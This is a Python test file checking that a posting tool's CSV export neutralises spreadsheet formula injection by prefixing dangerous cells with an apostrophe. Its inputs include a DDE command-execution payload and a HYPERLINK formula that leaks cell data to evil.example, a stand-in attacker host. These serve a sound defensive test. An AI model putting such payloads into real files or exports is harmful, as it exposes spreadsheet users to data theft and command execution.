"""CSV exports never hand a spreadsheet a formula to run."""

from __future__ import annotations

import csv
import io

import sqlalchemy as sa
from sqlmodel import select

from channels.sandbox import SandboxServer
from orchestrator import csvsafe, db
from orchestrator.models import Campaign, Delivery
from orchestrator.services.plan_io import export_deliveries
from tests.factories import add_account
from tests.orchestrator.helpers import approved_post, schedule


def test_cells_that_start_a_formula_are_neutralised_and_others_untouched() -> None:
    for dangerous in ("=1+1", "+33 6", "-2+3", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://x","y")'):
        assert csvsafe.cell(dangerous) == "'" + dangerous
    for harmless in ("Juan López", "", "#ÉcrireÇaLibère", "a=b", -3, 4.5, None):
        assert csvsafe.cell(harmless) == harmless
    rows = list(csv.reader(io.StringIO(csvsafe.dumps([["=cmd|' /C calc'!A0", 7, "ok"]]))))
    assert rows == [["'=cmd|' /C calc'!A0", "7", "ok"]]


def test_the_deliveries_export_neutralises_texts_and_platform_values(engine: sa.Engine, sandbox: SandboxServer) -> None:
    account = add_account(engine, "mastodon", name="mastodon-test", base_url=sandbox.url)
    post_id = approved_post(engine, text='=HYPERLINK("https://evil.example/?d="&A1,"Cliquez") pour Juan López')
    delivery_id = schedule(engine, post_id, account)
    with db.session_scope(engine) as session:
        delivery = session.get(Delivery, delivery_id)
        assert delivery is not None
        delivery.platform_url = "=cmd|' /C calc'!A0"  # what a hostile platform answer could put there
        campaign = session.exec(select(Campaign).where(Campaign.is_current == sa.true())).first() or \
            session.exec(select(Campaign)).first()
        assert campaign is not None
        text = export_deliveries(session, campaign=campaign)
    header, *rows = list(csv.reader(io.StringIO(text)))
    row = dict(zip(header, rows[0], strict=True))
    assert row["text"].startswith("'=HYPERLINK(")
    assert row["delivery_id"] == str(delivery_id)
    assert row["platform_url"] == "'=cmd|' /C calc'!A0"
    for value in (v for r in rows for v in r):
        assert not value.startswith(csvsafe.FORMULA_STARTS), value
